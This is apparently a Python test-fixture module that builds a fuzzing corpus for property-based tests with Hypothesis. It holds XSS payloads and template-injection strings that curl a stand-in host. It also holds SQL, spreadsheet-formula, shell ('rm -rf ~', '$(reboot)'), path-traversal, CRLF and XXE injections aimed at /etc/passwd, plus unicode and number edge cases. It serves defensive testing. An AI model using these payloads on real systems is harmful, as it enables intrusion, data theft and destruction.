"""Texts that were written to do harm, and texts that only look like it."""

from __future__ import annotations

import json
from typing import Final

from hypothesis import strategies as st

CANARY = "canary.invalid"
"""A host that nobody has: whatever asks for it was made to by one of these texts."""

_RUN = "window.__pwned=(window.__pwned||0)+1"
_TAKE = f"fetch('//{CANARY}/x')"

SCRIPTS: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=//{CANARY}/x.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"\"><img src=x onerror={_RUN}>",
    f"' onmouseover='{_RUN}' x='",
    f"\" onfocus=\"{_RUN}\" autofocus x=\"",
    f"`-{_RUN}-`",
    f"${{{_RUN}}}",
    f"`+{_RUN}+`",
    f"';{_RUN};//",
    f"\\';{_RUN};//",
    f"\";{_RUN};//",
    f"\u2028{_RUN}\u2029//",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<a href=\"javascript:{_RUN}\">here</a>",
    f"<base href=//{CANARY}/>",
    f"<link rel=stylesheet href=//{CANARY}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/'>",
    f"<form action=//{CANARY}/><input name=a autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<object data=//{CANARY}/></object>",
    f"<style>@import '//{CANARY}/x.css';</style>",
    f"<x style=background:url(//{CANARY}/x)>",
    f"[here](javascript:{_RUN})",
    f"![x](//{CANARY}/x.png)",
    f"![x](https://{CANARY}/x.png)",
    f"[x]: javascript:{_RUN} \n[x]",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{ cycler.__init__.__globals__.os.popen('curl {CANARY}').read() }}}}",
    f"{{% import os %}}{{{{ os.system('curl {CANARY}') }}}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    "<img src=x onerror=&#119;indow.__pwned=1>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<video><source onerror={_RUN}></video>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\">",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$$\\unicode{{<img src=x onerror={_RUN}>}}$$",
    f"\\includegraphics{{//{CANARY}/x.png}}",
    f":red[<img src=x onerror={_RUN}>]",
    f"setTimeout('{_TAKE}')",
)  # fmt: skip
"""What runs, or asks for another host, where it is not escaped for where it stands."""

MARKS: Final = (
    ":red[red]",
    ":material/delete:",
    ":streamlit:",
    ":blue-background[x] :small[x]",
    "# Heading",
    "> quoted",
    "* one\n* two",
    "1. one",
    "~~struck~~ **bold** _it_ `code`",
    "| a | b |\n| - | - |\n| 1 | 2 |",
    "$e=mc^2$ and $$\\frac{1}{0}$$",
    "\\textbf{x} \\input{/etc/passwd}",
    '#set text(red) #read("/etc/passwd") $x$ @label <label>',
    '= Heading of Typst\n#import "x"',
    "{name} {0} {} %s %(name)s %d $name ${name}",
    "{0.__class__.__init__.__globals__}",
)
"""What a markup language would take for its own."""

COMMANDS: Final = (
    "'; DROP TABLE assets; --",
    '" OR ""="',
    "%' OR 1=1 --",
    "_%_%",
    'NEAR(a b) AND OR NOT "',
    'a* -b ^c {names}: "d',
    '=HYPERLINK("http://canary.invalid/x","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\x00.csv",
    "file:///etc/passwd",
    "CON",
    "; rm -rf ~",
    "$(reboot) `reboot`",
    "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "a%0d%0aX-Evil: 1",
    "http://[::1]:8501/",
    "http://example.org@canary.invalid/",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
)
"""What a database, a spreadsheet, a shell, a file system or a protocol would take for its own."""

ODD: Final = (
    "",
    " ",
    "\u00a0\u2003\u3000",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f\x85",
    "\u202egnp.exe",
    "\u2066\u2067\u2068x\u2069",
    "\u200b\u200c\u200d\ufeff",
    "\ufffe\uffff",
    "\ud800",
    "a\udcffb",
    "\U000e0001\U000e0041",
    "👩🏽\u200d🚒🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "Z" + "\u0300\u0301\u0302\u0303" * 60,
    "مرحبا بكم في غلاسكو",
    "שלום",
    "ﷺ" * 50,
    "İıſẞﬁ",
    "NULL",
    "None",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "[object Object]",
    "a" * 300,
    "word " * 3_000,
    "x" * 100_000,
    "(" * 10_000,
    "a\n" * 5_000,
    "<" * 5_000,
    "1" * 5_000,
    "&amp;" * 2_000,
)
"""Texts that are no attack, and break what was not made for them."""

NUMBERS: Final = (
    "nan", "NaN", "inf", "-inf", "Infinity", "1e400", "-1e400", "1e-400", "0", "-0", "-1", "1,5", "1.5.2", "0x10",
    "1_000", "٣", "²", "½", "1" * 400, "9223372036854775808", "2147483648", "1e5", "+5", " 7 ", "−3", "90.0000001",
    "180.1", "-999", "1/0", "１２",
)  # fmt: skip
DATES: Final = (
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-1-01-01", "2026-02-30", "29/2/2025", "31/12/9999",
    "1/1/0", "2026-13-01", "2026-W53-7", "20261121", "2026-11-21T25:00", "tomorrow", "yesterday", "21st of never",
    "1970-01-01", "٢٠٢٦-١١-٢١", "2026-11-21+14:00", "99/99/9999",
)  # fmt: skip
CODES: Final = (
    "food", "FOOD", "place", "nothing", "S01010206", "DEMO0001", "demo0001", "DEMO9999", "ZZ1 1AA", "zz11aa",
    "G99 9ZZ", "NS 59 67", "NS5967", "SV 00000 00000", "B2", "Z99", "B2, C3; D4", "55.5,-7.6", "-91,181",
    "40500 640500", "public", "unmapped", "staff", "en", "xx", "und", "urn:x", "exact",
)  # fmt: skip
SHAPES: Final = (
    json.dumps({"type": "Point", "coordinates": [-7.69, 55.52]}),
    json.dumps({"type": "Point", "coordinates": ["x", None]}),
    json.dumps({"type": "Point", "coordinates": []}),
    json.dumps({"type": "Point", "coordinates": [1e308, 1e308]}),
    '{"type":"Point","coordinates":[NaN,Infinity]}',
    json.dumps({"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [0, 1], [1, 0], [0, 0]]]}),
    json.dumps({"type": "Polygon", "coordinates": [[[0, 0]]]}),
    json.dumps({"type": "LineString", "coordinates": [[-7.69, 55.52], [-7.69, 55.52]]}),
    json.dumps({"type": "GeometryCollection", "geometries": []}),
    json.dumps({"type": "Feature", "geometry": None}),
    json.dumps({"type": "MultiPolygon", "coordinates": []}),
    "[" * 5_000,
    '{"a":' * 2_000,
    "POINT (1 2)",
)

CORPUS: Final = (*SCRIPTS, *MARKS, *COMMANDS, *ODD, *NUMBERS, *DATES, *CODES, *SHAPES)

NAMES: Final = (
    *(one for one in (*SCRIPTS, *MARKS, *COMMANDS) if "\x00" not in one and "\r" not in one),
    "\u202egnp.exe",
    "\u2066\u2067\u2068x\u2069",
    "Z" + "\u0300\u0301\u0302\u0303" * 60,
    "مرحبا بكم في غلاسكو",
    "a" * 300,
    "<" * 300,
)
"""Those that a record can be called by."""


def hostile_texts() -> st.SearchStrategy[str]:
    """Return texts of the corpus, pieces of it joined, and any other text with any sign in it."""
    known = st.sampled_from(CORPUS)
    joined = st.lists(st.sampled_from((*SCRIPTS, *MARKS, *COMMANDS, *CODES)), min_size=2, max_size=4).map(" ".join)
    # Surrogates are no text, but JSON and addresses can hold them.
    signs = st.text(st.characters(exclude_categories=()), max_size=60)
    numbers = st.one_of(st.floats(), st.integers()).map(str)
    dates = st.dates().map(str)
    return st.one_of(known, known, joined, signs, numbers, dates)
